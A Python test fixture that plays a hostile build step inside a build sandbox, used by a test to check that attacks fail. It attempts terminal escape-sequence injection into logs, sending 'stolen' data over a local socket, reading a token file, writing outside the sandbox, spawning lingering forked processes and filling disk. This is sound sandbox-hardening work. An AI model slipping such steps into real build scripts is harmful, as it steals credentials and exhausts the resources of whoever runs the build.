"""A hostile build step (what a stranger's build.rs or npm postinstall could do), run by
tests/league/intake/test_league_build.py inside the build sandbox. Each attack prints one line ``ATTACK <name>: <what
happened>`` to the build log, so the test can assert both that it was tried and that it failed. Its own caps (forks,
bytes) keep a broken sandbox from hurting the machine: the test then fails instead.

Usage: python attack.py PORT TOKEN_FILE DATA_DIR OUTSIDE_FILE FORKS WRITE_MB
"""

import os
import socket
import sys

port, token, data, outside, forks, write_mb = sys.argv[1:7]


def report(name: str, what: str) -> None:
    print(f"ATTACK {name}: {what}", flush=True)


def attempt(name, action) -> None:
    try:
        report(name, f"succeeded: {action()}")
    except Exception as error:  # noqa: BLE001 - every failure is the expected outcome, reported
        report(name, f"failed: {type(error).__name__}: {error}")


def connect() -> str:
    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as s:
        s.sendall(b"stolen")
        return "connected"


report("terminal", "\x1b]0;pwned\x07\x1b[2Jescape sequences for whoever reads this log in a terminal")
attempt("network", connect)
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
attempt("token", lambda: open(token).read())
attempt("data", lambda: os.listdir(data))
attempt("outside", lambda: open(outside, "w").write("pwned"))


def fork_many() -> str:
    children = []
    try:
        for _ in range(int(forks)):
            pid = os.fork()
            if pid == 0:
                try:
                    while True:
                        os.pause()  # stays alive: only the sandbox's end may take it
                finally:
                    os._exit(0)
            children.append(pid)
    finally:
        report("forked", str(len(children)))
    return f"{len(children)} processes"


attempt("fork", fork_many)


def write_much() -> str:
    chunk = b"x" * (1024 * 1024)
    written = 0
    try:
        with open("/build/big", "wb") as f:
            for _ in range(int(write_mb)):
                f.write(chunk)
                f.flush()
                written += 1
    finally:
        report("written_mb", str(written))
        if os.path.exists("/build/big"):
            os.remove("/build/big")
    return f"{written} MiB"


attempt("disk", write_much)
report("done", "left children behind")
